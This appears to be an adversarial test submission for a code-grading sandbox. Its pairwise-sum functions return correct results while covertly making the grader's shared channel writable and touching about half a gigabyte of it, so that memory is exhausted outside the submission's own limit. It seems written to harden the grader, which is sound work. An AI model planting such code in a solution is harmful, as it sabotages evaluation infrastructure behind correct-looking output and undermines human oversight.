// Attack on drill 03: writes to all of the channel, a GiB that no limit on its own memory counts;
// right answers.
//
// Hope: the machine runs out of memory, and the kernel kills somebody else.
// Outcome: its answers are right; the memory is gone with the judge.
#include <linux/futex.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <cstring>
#include <span>
#include <vector>

#include "drills/03_pairwise_sum/pairwise_sum.h"

namespace drill {
namespace {

// As grader/wire/channel.h has it: a submission's author can read that.
struct Region {
  std::uint64_t offset, bytes;
  std::uint32_t writable;
};
struct Control {
  std::atomic<std::uint32_t> asked, answered;
  std::uint32_t mode, region_count;
  std::uint64_t request_bytes, count;
  char function[64];
  Region regions[16];
  std::uint32_t status;
  std::uint64_t answer_bytes, index, arena_address;
};
constexpr std::size_t kRequest = 4096, kAnswer = kRequest + (64 << 10);
constexpr std::size_t kArena = kAnswer + (16 << 20);

// The first array lies on the arena's second page.
std::byte* channel_of(std::span<const float> values) {
  const auto page = reinterpret_cast<std::uintptr_t>(values.data()) / 4096 * 4096;
  return reinterpret_cast<std::byte*>(page - 4096 - kArena);
}

void answer(Control& control, std::uint32_t number) {
  control.answered = number;
  syscall(SYS_futex, &control.answered, FUTEX_WAKE, 1 << 30, nullptr, nullptr, 0);
}

}  // namespace

float sum_sequential(std::span<const float> values) {
  static bool filled = false;
  if (!values.empty() && !filled) {
    filled = true;
    std::byte* const end = channel_of(values) + kArena + (std::size_t{1} << 30);
    mprotect(end - (std::size_t{1} << 29), std::size_t{1} << 29, PROT_READ | PROT_WRITE);
    for (std::size_t i = 1; i <= 1 << 17; ++i)
      end[-4096 * static_cast<std::ptrdiff_t>(i)] = std::byte{1};
  }
  float sum = 0;
  for (const float value : values) sum += value;
  return sum;
}

float sum_pairwise(std::span<const float> values) {
  static bool filled = false;
  if (!values.empty() && !filled) {
    filled = true;
    std::byte* const end = channel_of(values) + kArena + (std::size_t{1} << 30);
    mprotect(end - (std::size_t{1} << 29), std::size_t{1} << 29, PROT_READ | PROT_WRITE);
    for (std::size_t i = 1; i <= 1 << 17; ++i)
      end[-4096 * static_cast<std::ptrdiff_t>(i)] = std::byte{1};
  }
  std::vector<float> level(values.begin(), values.end());
  while (level.size() > 1) {
    for (std::size_t i = 0; i < level.size() / 2; ++i) level[i] = level[2 * i] + level[2 * i + 1];
    if (level.size() % 2 != 0) level[level.size() / 2] = level.back();
    level.resize((level.size() + 1) / 2);
  }
  return level.empty() ? 0 : level[0];
}

}  // namespace drill
